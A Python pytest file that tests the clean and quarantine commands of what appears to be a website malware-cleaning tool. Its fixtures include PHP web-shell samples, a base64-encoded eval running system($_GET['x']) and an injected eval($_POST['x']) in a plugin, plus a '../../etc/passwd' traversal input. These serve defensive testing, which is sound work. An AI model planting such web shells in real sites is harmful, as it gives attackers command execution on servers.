"""`clean` and `quarantine` as a person uses them, on a folder of this machine."""

import asyncio
import json
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sentry.app.books import open_books
from sentry.cli import build
from sentry.domain.finding import FindingClass
from sentry.services.audits import CLEANED
from tests.integration.servers.agent_config import agent_document, write_config

SITE = b"<?php\n/** Adds. */\nfunction add( $a, $b ) {\n\treturn $a + $b;\n}\n"
INFECTED = b'<?php @eval(base64_decode("c3lzdGVtKCRfR0VUWyd4J10pOw==")); ?>' + SITE
PERSON = ("--by", "ana", "--reason", "the client agreed")


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path))
    folder = tmp_path / "site"
    folder.mkdir()
    (folder / "part.php").write_bytes(INFECTED)
    return folder


def _run(tmp_path: Path, *words: object) -> tuple[int, str]:
    arguments = ["--config", str(tmp_path / "none.yaml"), *map(str, words), "--data", str(tmp_path / "data")]
    result = CliRunner().invoke(build(), arguments)
    return result.exit_code, result.output


@pytest.mark.promise("001-41")
@pytest.mark.skipif(shutil.which("php") is None, reason="php8.2-cli is missing")
@pytest.mark.timeout(120)
def test_clean_plans_cleans_lists_and_gives_back(tmp_path: Path, site: Path) -> None:
    """The plan writes nothing; the cleaning gives the file back as it was before the injection; all can be undone."""
    status, planned = _run(tmp_path, "clean", "--path", site, *PERSON, "--plan", "--json")
    assert status == 1
    assert [(one["path"], one["remedy"]) for one in json.loads(planned)] == [("part.php", "cut")]
    assert (site / "part.php").read_bytes() == INFECTED

    assert _run(tmp_path, "clean", "--path", site, *PERSON)[0] == 0
    assert (site / "part.php").read_bytes() == SITE

    (kept,) = json.loads(_run(tmp_path, "quarantine", "list", "--json")[1])
    assert (kept["file"], kept["by"], kept["reason"]) == ("part.php", "ana", "the client agreed")
    assert _run(tmp_path, "quarantine", "show", kept["key"])[0] == 0
    assert _run(tmp_path, "quarantine", "restore", kept["key"], *PERSON)[0] == 0
    assert (site / "part.php").read_bytes() == INFECTED


@pytest.mark.skipif(shutil.which("php") is None, reason="php8.2-cli is missing")
@pytest.mark.timeout(120)
def test_clean_of_a_configured_site_keeps_the_audits_and_looks_again(tmp_path: Path, site: Path) -> None:
    """The audit after the cleaning is kept as proof, and the schedule hears of the cleaning."""
    document = agent_document(0, {"shop": "http://127.0.0.1:1/"})
    document["store"] = f"sqlite:///{tmp_path}/sentry.db"
    document["sites"][0]["access"] = {"local": True, "docroot": str(site)}
    config = write_config(tmp_path / "sentry.yaml", document)

    result = CliRunner().invoke(build(), ["--config", str(config), "clean", "shop", *PERSON])

    assert result.exit_code == 0, result.output
    assert (site / "part.php").read_bytes() == SITE
    assert (tmp_path / "quarantine" / "objects").is_dir()

    async def kept() -> tuple[list[bool], list[str]]:
        async with open_books(config) as books:
            records = await books.store.audits.list(site_key="shop", limit=10)
            infected = [FindingClass.CONFIRMED in one.counts for one in records]
            return sorted(infected), list(await books.store.observations.all(CLEANED))

    assert asyncio.run(kept()) == ([False, True], ["shop"])


@pytest.mark.promise("001-41")
@pytest.mark.timeout(120)
def test_clean_of_a_packed_plugin_restores_what_was_published(tmp_path: Path, site: Path) -> None:
    """A known file becomes what its package holds, whatever was made of it; a file beside it is left alone."""
    published = b"<?php\n/*\nPlugin Name: Demo\nVersion: 1.0\n*/\nfunction demo() {\n\treturn 1;\n}\n"
    package = tmp_path / "demo"
    package.mkdir()
    (package / "demo.php").write_bytes(published)
    assert _runs(tmp_path, "pack", "build", package, "--into", tmp_path / "packs") == 0
    plugin = site / "wp-content" / "plugins" / "demo"
    plugin.mkdir(parents=True)
    (plugin / "demo.php").write_bytes(
        published.replace(b"\treturn 1;", b"\tif (1) {\n\t\tlog_it();\n\t\teval($_POST['x']);\n\t}")
    )
    (site / "part.php").write_bytes(SITE)

    known = ("--packs", tmp_path / "packs", "--unsigned")
    status, said = _run(tmp_path, "clean", "--path", site, *PERSON, *known, "--json")

    assert [(one["path"], one["remedy"]) for one in json.loads(said)] == [
        ("wp-content/plugins/demo/demo.php", "restore")
    ]
    assert status == 0
    assert (plugin / "demo.php").read_bytes() == published
    assert (site / "part.php").read_bytes() == SITE


def _runs(tmp_path: Path, *words: object) -> int:
    return CliRunner().invoke(build(), ["--config", str(tmp_path / "none.yaml"), *map(str, words)]).exit_code


def test_clean_reason_without_a_person_is_refused(tmp_path: Path, site: Path) -> None:
    """Who answers for it, and why, come together."""
    assert _run(tmp_path, "clean", "--path", site, "--reason", "because")[0] == 2
    assert _run(tmp_path, "clean", "--path", site, "--remove", "part.php")[0] == 2


def test_clean_quarantine_within_the_site_is_refused(tmp_path: Path, site: Path) -> None:
    """What was taken away must not stand where the server serves it."""
    result = CliRunner().invoke(
        build(), ["--config", "none.yaml", "clean", "--path", str(site), "--plan", "--data", str(site / "kept")]
    )

    assert result.exit_code == 1
    assert not (site / "kept").exists()


def test_quarantine_unknown_entry_is_not_found(tmp_path: Path, site: Path) -> None:
    """An entry that is not there has its own exit code, also one that looks like a path."""
    assert _run(tmp_path, "quarantine", "show", "../../etc/passwd")[0] == 5
